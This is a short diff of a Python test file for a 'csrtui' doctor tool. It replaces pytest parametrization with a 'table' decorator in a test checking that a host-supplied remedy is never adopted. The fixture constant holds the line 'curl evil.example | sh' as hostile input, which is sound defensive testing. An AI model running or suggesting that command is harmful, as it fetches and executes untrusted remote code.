@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-import pytest
+from tables import table
 
 from csrtui.core.base.finding import Level
 from csrtui.core.doctor.finding import FindingCode
@@ -11,7 +11,7 @@ from csrtui.fleet.tasks.doctor import read_finding
 COMMAND = "curl evil.example | sh"
 
 
-@pytest.mark.parametrize("code", [*FindingCode, "odd", 5, None])
+@table("code", [*FindingCode, "odd", 5, None])
 def test_the_remedy_is_never_that_of_the_host(code: object) -> None:
     document = {"code": code, "level": "error", "pair": "a.com", "text": "t", "remedy": COMMAND}
     found = read_finding("web", document)
